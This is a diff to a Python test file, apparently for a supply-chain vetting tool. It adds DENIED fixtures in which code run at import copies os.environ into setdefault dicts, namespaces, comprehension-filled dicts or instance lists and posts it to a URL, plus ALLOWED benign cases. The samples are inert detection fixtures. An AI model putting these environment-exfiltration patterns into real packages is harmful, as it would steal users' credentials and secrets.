@@ -2,11 +2,13 @@
 
 A function walked on import gets a copy of its caller's names, so what it put into a
 module's list or dict (``BUF.append(dict(os.environ))``, ``STATE['e'] = ...``) or into a
-parameter's object (``out.update(os.environ)``) was lost when it returned; a class
+parameter's object (``out.update(os.environ)``) was lost when it returned, and so was what
+a comprehension put into its enclosing scope's names or a method into ``self.buf``; a class
 attribute bound to a call's value (``data = dict(os.environ)``) was kept only when it folded
-to text; a queue's ``put`` and a context variable's ``set`` put nothing into them. The
-function that then sent the object on import made a plain network call (allowed). Every
-sample is inert: vetting only reads files."""
+to text; a queue's ``put``, a context variable's ``set``, ``setdefault`` and an attribute set
+on an object of no known class put nothing into them. The function that then sent the
+object on import made a plain network call (allowed). Every sample is inert: vetting only
+reads files."""
 
 from __future__ import annotations
 
@@ -68,6 +70,29 @@ DENIED: dict[str, Mapping[str, str]] = {
     "environment-in-a-context-variable": sent(
         "V = contextvars.ContextVar('v')\n", "    V.set(dict(os.environ))", "V.get()"
     ),
+    "environment-kept-by-setdefault": sent(
+        "S = {}\n", "    S.setdefault('e', dict(os.environ))", "S"
+    ),
+    # An attribute set on an object of no known class, or a namespace made of the mapping.
+    "environment-set-on-a-namespace-attribute": sent(
+        "import types\nCFG = types.SimpleNamespace()\n",
+        "    CFG.env = dict(os.environ)",
+        "CFG.env",
+    ),
+    # A comprehension's scope and a method's attribute, filled and sent elsewhere.
+    "environment-put-into-a-dict-by-a-comprehension": init(
+        f"{HEAD}d = {{}}\n[d.update({{k: v}}) for k, v in os.environ.items()]\n\n\n"
+        f"def send():\n{SEND.format(data='d')}\n\nsend()\n"
+    ),
+    "environment-appended-to-an-instance-list": init(
+        f"{HEAD}\n\nclass Box:\n    def __init__(self):\n        self.buf = []\n\n"
+        "    def fill(self):\n        self.buf.append(dict(os.environ))\n\n"
+        f"    def send(self):\n    {SEND.format(data='self.buf')}\n\n"
+        "b = Box()\nb.fill()\nb.send()\n"
+    ),
+    "environment-spread-into-a-namespace": sent(
+        "import types\n", "    pass", "repr(vars(types.SimpleNamespace(**os.environ)))"
+    ),
 }
 
 ALLOWED: dict[str, Mapping[str, str]] = {
@@ -98,6 +123,24 @@ ALLOWED: dict[str, Mapping[str, str]] = {
         f"        requests.post({URL!r}, json=item)\n\n\n"
         "threading.Thread(target=_worker, daemon=True).start()\n\n\n"
         "def log(event):\n    Q.put(event)\n"
+    ),
+    # Options parsed into a namespace, the token among them sent when called.
+    "token-set-on-parsed-options-sent-when-called": init(
+        f"{HEAD}import argparse\nOPTS = argparse.Namespace()\n\n\ndef _defaults():\n"
+        "    OPTS.token = os.environ.get('MYSVC_TOKEN')\n\n\n_defaults()\n\n\n"
+        "def me():\n    return requests.get('https://api.mysvc.example/me',"
+        " headers={'Authorization': OPTS.token})\n"
+    ),
+    # Names of the environment checked by a comprehension, and an instance's list of the
+    # caller's events sent when called.
+    "variables-listed-by-a-comprehension": init(
+        f"{HEAD}SEEN = []\n[SEEN.append(k) for k in os.environ if k.startswith('MYPKG_')]\n"
+    ),
+    "instance-queue-of-events-sent-when-called": init(
+        f"{HEAD}\n\nclass Client:\n    def __init__(self):\n        self.pending = []\n\n"
+        "    def track(self, event):\n        self.pending.append(event)\n\n"
+        f"    def flush(self):\n        requests.post({URL!r}, json=self.pending)\n\n\n"
+        "CLIENT = Client()\n"
     ),
     # A parameter's dict given defaults, nothing secret put into it.
     "defaults-put-into-a-parameter": init(
